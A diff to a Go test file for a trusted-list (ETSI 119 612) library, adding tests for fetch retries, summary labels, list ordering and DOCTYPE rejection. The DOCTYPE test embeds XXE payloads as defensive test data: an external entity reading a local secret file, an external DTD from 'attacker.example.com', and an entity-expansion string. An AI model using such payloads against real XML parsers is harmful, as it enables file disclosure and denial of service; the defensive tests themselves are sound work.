@@ -1,15 +1,21 @@
 package etsi119612_test
 
 import (
+	"context"
 	"crypto/x509"
 	"net/http"
+	"os"
+	"path/filepath"
 	"slices"
+	"strings"
 	"testing"
 	"time"
 
-	"github.com/sirosfoundation/g119612/pkg/etsi119612"
 	"github.com/h2non/gock"
+	"github.com/sirosfoundation/g119612/pkg/etsi119612"
+	"github.com/sirosfoundation/g119612/pkg/validation"
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 )
 
 func TestFetch(t *testing.T) {
@@ -257,6 +263,56 @@ func TestFetchTSLWithOptions_ErrorHandling(t *testing.T) {
 	}
 }
 
+func TestFetchTSLWithOptions_Retries(t *testing.T) {
+	defer gock.Off()
+	options := etsi119612.TSLFetchOptions{
+		UserAgent:  "RetryTest/1.0",
+		Timeout:    50 * time.Millisecond,
+		Retries:    2,
+		RetryDelay: time.Millisecond,
+	}
+
+	// Transient failures are retried until the fetch succeeds
+	gock.New("https://example.com").Get("/flaky").Reply(503)
+	gock.New("https://example.com").Get("/flaky").Reply(200).Delay(200 * time.Millisecond).File("./testdata/EWC-TL.xml")
+	gock.New("https://example.com").Get("/flaky").Reply(200).File("./testdata/EWC-TL.xml")
+	tsl, err := etsi119612.FetchTSLWithOptions("https://example.com/flaky", options)
+	require.NoError(t, err)
+	assert.Equal(t, 2, tsl.FetchInfo.Retries)
+	require.True(t, gock.IsDone())
+
+	// Until the retries are used up
+	for i := 0; i < 3; i++ {
+		gock.New("https://example.com").Get("/down").Reply(429)
+	}
+	_, err = etsi119612.FetchTSLWithOptions("https://example.com/down", options)
+	var transient *etsi119612.TransientError
+	require.ErrorAs(t, err, &transient)
+	assert.Equal(t, http.StatusTooManyRequests, transient.StatusCode)
+	assert.False(t, etsi119612.IsPermanent(err))
+	require.True(t, gock.IsDone())
+
+	// Permanent failures are not retried
+	gock.New("https://example.com").Get("/missing").Reply(404)
+	gock.New("https://example.com").Get("/missing").Reply(200).File("./testdata/EWC-TL.xml")
+	_, err = etsi119612.FetchTSLWithOptions("https://example.com/missing", options)
+	var permanent *etsi119612.PermanentError
+	require.ErrorAs(t, err, &permanent)
+	assert.Equal(t, http.StatusNotFound, permanent.StatusCode)
+	assert.ErrorContains(t, err, "404")
+	assert.False(t, etsi119612.IsTransient(err))
+	assert.False(t, gock.IsDone(), "the 404 is not retried")
+	gock.Flush()
+
+	gock.New("https://example.com").Get("/bad-xml").Reply(200).BodyString("<not-valid-xml>")
+	_, err = etsi119612.FetchTSLWithOptions("https://example.com/bad-xml", options)
+	assert.True(t, etsi119612.IsPermanent(err), "parse failures are permanent")
+
+	_, err = etsi119612.FetchTSLWithOptions("file:///nonexistent/tsl.xml", options)
+	assert.True(t, etsi119612.IsPermanent(err))
+	assert.ErrorIs(t, err, os.ErrNotExist)
+}
+
 func TestFetchTSLWithReferences_BackwardCompatibility(t *testing.T) {
 	defer gock.Off()
 
@@ -739,9 +795,118 @@ func TestTSLSummary(t *testing.T) {
 	assert.Contains(t, summary, "summary")
 }
 
+func TestTSLSummary_Labels(t *testing.T) {
+	service := func(serviceType, status string) *etsi119612.TSPServiceType {
+		return &etsi119612.TSPServiceType{TslServiceInformation: &etsi119612.TSPServiceInformationType{
+			TslServiceTypeIdentifier: serviceType,
+			TslServiceStatus:         status,
+		}}
+	}
+	tsl := &etsi119612.TSL{StatusList: etsi119612.TrustStatusListType{
+		TslSchemeInformation: &etsi119612.TSLSchemeInformationType{
+			TslTSLType: "http://uri.etsi.org/TrstSvc/TrustedList/TSLType/EUgeneric",
+		},
+		TslTrustServiceProviderList: &etsi119612.TrustServiceProviderListType{
+			TslTrustServiceProvider: []*etsi119612.TSPType{{
+				TslTSPServices: &etsi119612.TSPServicesListType{TslTSPService: []*etsi119612.TSPServiceType{
+					service("http://uri.etsi.org/TrstSvc/Svctype/CA/QC", etsi119612.ServiceStatusGranted),
+					service("http://uri.etsi.org/TrstSvc/Svctype/CA/QC", "http://uri.etsi.org/TrstSvc/TrustedList/Svcstatus/withdrawn"),
+					service("http://example.com/Svctype/Custom", etsi119612.ServiceStatusGranted),
+				}},
+			}},
+		},
+	}}
+	summary := tsl.Summary()
+	assert.Equal(t, "EU trusted list", summary["tsl_type"])
+	assert.Equal(t, map[string]int{"CA issuing qualified certificates": 2, "Custom": 1}, summary["service_types"])
+	assert.Equal(t, map[string]int{"Granted": 2, "Withdrawn": 1}, summary["service_statuses"])
+}
+
 func TestTSLSummary_NullTSL(t *testing.T) {
 	var tsl *etsi119612.TSL
 	summary := tsl.Summary()
 	assert.NotNil(t, summary)
 	assert.Len(t, summary, 0)
 }
+
+func TestParseTSL_Doctype(t *testing.T) {
+	data, err := os.ReadFile(filepath.Join("testdata", "EWC-TL.xml"))
+	require.NoError(t, err)
+	secret := filepath.Join(t.TempDir(), "secret.txt")
+	require.NoError(t, os.WriteFile(secret, []byte("top-secret"), 0600))
+
+	payloads := map[string]string{
+		"external entity":  `<!DOCTYPE TrustServiceStatusList [<!ENTITY xxe SYSTEM "file://` + secret + `">]>`,
+		"external dtd":     `<!DOCTYPE TrustServiceStatusList SYSTEM "http://attacker.example.com/evil.dtd">`,
+		"entity expansion": `<!DOCTYPE TrustServiceStatusList [<!ENTITY lol "lol"><!ENTITY xxe "&lol;&lol;&lol;&lol;">]>`,
+	}
+	for name, doctype := range payloads {
+		t.Run(name, func(t *testing.T) {
+			xxe := strings.Replace(string(data), "<TrustServiceStatusList ", doctype+"<TrustServiceStatusList ", 1)
+			if strings.Contains(doctype, "ENTITY xxe") {
+				xxe = strings.Replace(xxe, `<Name xml:lang="en">`, `<Name xml:lang="en">&xxe;`, 1)
+			}
+
+			_, err := etsi119612.ParseTSL([]byte(xxe), "xxe.xml", etsi119612.DefaultTSLFetchOptions)
+			assert.ErrorIs(t, err, validation.ErrDoctype)
+
+			// Allowing the declaration never resolves the entity
+			options := etsi119612.DefaultTSLFetchOptions
+			options.AllowDoctype = true
+			tsl, err := etsi119612.ParseTSL([]byte(xxe), "xxe.xml", options)
+			if strings.Contains(doctype, "ENTITY xxe") {
+				require.Error(t, err)
+				assert.NotContains(t, err.Error(), "top-secret")
+				return
+			}
+			require.NoError(t, err)
+			assert.Positive(t, tsl.NumberOfTrustServiceProviders())
+		})
+	}
+
+	// A signed document with a DOCTYPE is rejected before its signature is verified
+	signed, err := os.ReadFile(filepath.Join("testdata", "SE-TL.xml"))
+	require.NoError(t, err)
+	signed = []byte(strings.Replace(string(signed), "<TrustServiceStatusList ", payloads["external dtd"]+"<TrustServiceStatusList ", 1))
+	options := etsi119612.DefaultTSLFetchOptions
+	options.Verifier = etsi119612.VerifierFunc(func(ctx context.Context, data []byte) ([]byte, *x509.Certificate, error) {
+		t.Fatal("verifier called for a document with a DOCTYPE")
+		return nil, nil, nil
+	})
+	_, err = etsi119612.ParseTSL(signed, "SE-TL.xml", options)
+	assert.ErrorIs(t, err, validation.ErrDoctype)
+}
+
+func TestFetchTSLWithReferencesAndOptions_Order(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name string, pointers ...string) string {
+		var refs strings.Builder
+		for _, pointer := range pointers {
+			refs.WriteString("<tsl:OtherTSLPointer><tsl:TSLLocation>" + pointer + "</tsl:TSLLocation></tsl:OtherTSLPointer>")
+		}
+		path := filepath.Join(dir, name+".xml")
+		require.NoError(t, os.WriteFile(path, []byte(`<tsl:TrustServiceStatusList xmlns:tsl="http://uri.etsi.org/02231/v2#">
+  <tsl:SchemeInformation><tsl:PointersToOtherTSL>`+refs.String()+`</tsl:PointersToOtherTSL></tsl:SchemeInformation>
+  <tsl:TrustServiceProviderList/>
+</tsl:TrustServiceStatusList>`), 0644))
+		return "file://" + path
+	}
+	// Lists pointed to by several lists are only fetched, and listed, once
+	nested := write("nested")
+	var pointers []string
+	for _, name := range []string{"se", "at", "fr", "de", "be", "nl", "it", "es"} {
+		pointers = append(pointers, write(name, nested))
+	}
+	root := write("lotl", pointers...)
+	want := append([]string{root, pointers[0], nested}, pointers[1:]...)
+
+	for i := 0; i < 20; i++ {
+		tsls, err := etsi119612.FetchTSLWithReferencesAndOptions(root, etsi119612.DefaultTSLFetchOptions)
+		require.NoError(t, err)
+		var got []string
+		for _, tsl := range tsls {
+			got = append(got, tsl.Source)
+		}
+		require.Equal(t, want, got, "run %d", i)
+	}
+}